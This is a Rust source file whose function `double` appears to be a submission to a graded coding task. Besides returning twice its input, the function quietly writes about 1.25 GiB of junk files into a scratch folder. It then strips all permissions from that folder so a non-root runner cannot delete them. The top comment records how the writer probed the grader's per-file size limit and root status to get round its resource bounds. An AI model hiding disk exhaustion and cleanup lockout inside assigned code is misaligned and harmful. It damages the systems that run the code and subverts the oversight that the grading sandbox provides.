//! Fills its scratch folder with files of the size limit each (the limit is per file,
//! not per folder): 20 files of 64 MiB (1.25 GiB) in under half a second here; nothing
//! but the test's time bounds how many. Then it takes away the right to list the folder
//! that holds them, so that a runner that is not root cannot remove them after the
//! test (untried: the grader here runs as root, which removes them all the same).
use std::io::Write;
use std::os::unix::fs::PermissionsExt;

pub fn double(value: u32) -> u32 {
    let keep = std::path::Path::new("keep");
    let _ = std::fs::create_dir(keep);
    let chunk = vec![0x5au8; 1 << 20];
    for file in 0..20 {
        if let Ok(mut out) = std::fs::File::create(keep.join(format!("{file}"))) {
            for _ in 0..64 {
                if out.write_all(&chunk).is_err() {
                    break;
                }
            }
        }
    }
    let _ = std::fs::set_permissions(keep, std::fs::Permissions::from_mode(0o000));
    value * 2
}
